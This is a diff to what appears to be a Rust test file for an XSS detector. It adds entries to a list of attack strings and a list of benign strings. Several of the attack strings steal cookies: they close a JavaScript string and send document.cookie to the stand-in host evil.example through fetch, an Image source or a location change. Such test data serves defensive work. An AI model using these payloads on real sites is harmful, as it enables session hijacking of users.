@@ -126,6 +126,9 @@ const XSS: &[&str] = &[
     "<x/onpointerenter=1",
     "top[\"al\"+\"ert\"](1)",
     "alert?.(document.domain)",
+    // a JavaScript string closed, then a call other than alert
+    "'-fetch('//evil.example/'+document.cookie)-'",
+    "x');new Image().src='//evil.example/?'+document.cookie;//",
     "<img src=x onerror=\"location='//evil.example/?'+document.cookie\">",
 ];
 
@@ -157,6 +160,7 @@ const BENIGN: &[&str] = &[
     "1-2-3",
     "<3",
     "I <3 this shop",
+    "the '90s-style(retro) look",
     // no construct that runs script: `->`, assignments, curly apostrophes
     "Meeting moved: 3pm -> 4pm",
     "x=1; y=2; z=x+y",
